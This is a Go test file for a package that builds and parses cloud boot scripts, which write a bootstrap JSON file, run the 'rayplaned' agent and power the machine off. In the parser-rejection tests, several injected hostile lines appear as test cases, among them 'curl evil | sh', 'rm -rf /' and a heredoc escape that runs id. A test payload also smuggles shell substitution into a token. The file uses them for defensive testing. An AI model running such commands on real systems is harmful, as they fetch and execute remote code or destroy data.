package bootscript

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

const testBootstrap = `{"control_plane_url":"https://cp.example:8443","bootstrap_token":"rpb_secret'$(x)` + "`id`" + `\"","ca_cert_pem":"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"}`

func TestRoundTrip(t *testing.T) {
	script := Build([]byte(testBootstrap))
	if !strings.HasPrefix(script, "#!/bin/sh\n") || !strings.Contains(script, "umask 077\n") ||
		!strings.Contains(script, "\nrayplaned agent --bootstrap "+BootstrapPath+"\n") || strings.Contains(script, "exec ") ||
		!strings.HasSuffix(script, "\npoweroff || shutdown -h now\n") {
		t.Fatalf("script:\n%s", script)
	}
	got, err := Parse(script)
	if err != nil || string(got) != testBootstrap {
		t.Fatalf("Parse = %q, %v; want %q", got, err, testBootstrap)
	}
	// Indented JSON is written compact: one line the heredoc cannot end on.
	indented := "{\n  \"bootstrap_token\": \"t\"\n}"
	if got, err := Parse(Build([]byte(indented))); err != nil || string(got) != `{"bootstrap_token":"t"}` {
		t.Fatalf("indented payload: %q, %v", got, err)
	}
}

// TestShellWritesPayloadVerbatim runs the script's heredoc with a real
// shell: quotes, $( ), backquotes and backslashes of the payload reach the
// file as they are, and the file is 0600.
func TestShellWritesPayloadVerbatim(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Fatalf("no sh: %v", err)
	}
	dir := t.TempDir()
	script := Build([]byte(testBootstrap))
	script = strings.ReplaceAll(script, "/var/lib/", dir+"/var/lib/")
	script = script[:strings.Index(script, heredocEnd+"\n")+len(heredocEnd)+1] // the rest runs the agent
	if b, err := exec.Command(sh, "-c", script).CombinedOutput(); err != nil {
		t.Fatalf("sh: %v: %s", err, b)
	}
	out := filepath.Join(dir, BootstrapPath)
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	if string(b) != testBootstrap+"\n" {
		t.Fatalf("file = %q, want %q", b, testBootstrap+"\n")
	}
	if fi, _ := os.Stat(out); fi.Mode().Perm() != 0o600 {
		t.Fatalf("mode %v, want 0600", fi.Mode().Perm())
	}
}

// TestPowersOffWhenTheAgentExits runs the whole script with a real shell,
// its paths moved to a temporary directory and rayplaned, poweroff and
// shutdown replaced by scripts that record their calls: the agent gets the
// payload, and when it exits (with an error, too) the machine powers off.
// A later boot powers off without running the agent, both ways a cloud
// boots: the script run again (GCE's startup-script, at every boot) and
// cloud-init's per-boot script (EC2 user data runs once), with and without
// cloud-init on the machine.
func TestPowersOffWhenTheAgentExits(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Fatalf("no sh: %v", err)
	}
	for _, c := range []struct {
		status    int
		cloudInit bool
	}{{0, true}, {3, true}, {0, false}} {
		name := fmt.Sprintf("status %d cloud-init %t", c.status, c.cloudInit)
		dir := t.TempDir()
		bin, root, log := filepath.Join(dir, "bin"), filepath.Join(dir, "root"), filepath.Join(dir, "calls")
		dirs := []string{bin, filepath.Join(root, "var/lib")}
		if c.cloudInit {
			dirs = append(dirs, filepath.Join(root, "var/lib/cloud"))
		}
		for _, d := range dirs {
			if err := os.MkdirAll(d, 0o755); err != nil {
				t.Fatal(err)
			}
		}
		fake := func(name, body string) {
			if err := os.WriteFile(filepath.Join(bin, name), []byte("#!/bin/sh\n"+body), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		fake("rayplaned", fmt.Sprintf("echo \"rayplaned $*\" >> %s\ncat \"$3\" >> %s\nexit %d\n", log, log, c.status))
		fake("poweroff", fmt.Sprintf("echo poweroff >> %s\n", log))
		fake("shutdown", fmt.Sprintf("echo shutdown >> %s\n", log))

		script := Build([]byte(`{"bootstrap_token":"t"}`))
		script = strings.ReplaceAll(script, "/var/lib/", root+"/var/lib/")
		run := func() string {
			t.Helper()
			cmd := exec.Command(sh, "-c", script)
			cmd.Env = append(os.Environ(), "PATH="+bin+":/usr/bin:/bin")
			b, err := cmd.CombinedOutput()
			if err != nil {
				t.Fatalf("%s: sh: %v: %s", name, err, b)
			}
			return string(b)
		}
		if out := run(); !strings.Contains(out, fmt.Sprintf("exited with status %d", c.status)) {
			t.Errorf("%s: output %q does not say why it powers off", name, out)
		}
		calls, _ := os.ReadFile(log)
		want := "rayplaned agent --bootstrap " + root + BootstrapPath + "\n" + `{"bootstrap_token":"t"}` + "\npoweroff\n"
		if string(calls) != want {
			t.Fatalf("%s: calls\n%s\nwant\n%s", name, calls, want)
		}

		// A later boot on GCE: the script again, which powers off at once.
		if out := run(); !strings.Contains(out, "earlier boot") {
			t.Errorf("%s: second run's output %q does not say why it powers off", name, out)
		}
		if calls, _ := os.ReadFile(log); string(calls) != want+"poweroff\n" {
			t.Fatalf("%s: the script's second run did not only power off: %s", name, calls)
		}

		// A later boot with cloud-init: its per-boot script powers off.
		perBoot := filepath.Join(root, PerBootDir, "rayplane-poweroff")
		if !c.cloudInit {
			if _, err := os.Stat(perBoot); err == nil {
				t.Fatalf("%s: a per-boot script was left without cloud-init", name)
			}
			continue
		}
		boot := exec.Command(perBoot)
		boot.Env = append(os.Environ(), "PATH="+bin+":/usr/bin:/bin")
		if b, err := boot.CombinedOutput(); err != nil {
			t.Fatalf("%s: per-boot script: %v: %s", name, err, b)
		}
		if calls, _ := os.ReadFile(log); string(calls) != want+"poweroff\npoweroff\n" {
			t.Fatalf("%s: a later boot did not power off: %s", name, calls)
		}
	}
}

func TestParseRefusesOtherScripts(t *testing.T) {
	good := Build([]byte(`{"a":1}`))
	cases := map[string]string{
		"empty":              "",
		"not json":           Build([]byte("not json")),
		"empty payload":      prefix + suffix,
		"extra command":      strings.Replace(good, "umask 077\n", "umask 077\ncurl evil | sh\n", 1),
		"trailing command":   good + "rm -rf /\n",
		"second line":        strings.Replace(good, `{"a":1}`, "{\"a\":1}\ntouch /x", 1),
		"ends heredoc early": strings.Replace(good, `{"a":1}`, "{\"a\":1}\n"+heredocEnd+"\nid\ncat <<'X'", 1),
		"not compact":        strings.Replace(good, `{"a":1}`, `{"a": 1}`, 1),
		"other binary":       strings.Replace(good, "\nrayplaned agent", "\nevil agent", 1),
		"no power off":       strings.TrimSuffix(good, "poweroff || shutdown -h now\n"),
		"no marker check":    strings.Replace(good, "if [ -e "+MarkerPath+" ]", "if false", 1),
		"crlf":               strings.ReplaceAll(good, "\n", "\r\n"),
	}
	for name, script := range cases {
		t.Run(name, func(t *testing.T) {
			if b, err := Parse(script); err == nil {
				t.Fatalf("accepted, payload %q", b)
			}
		})
	}
}
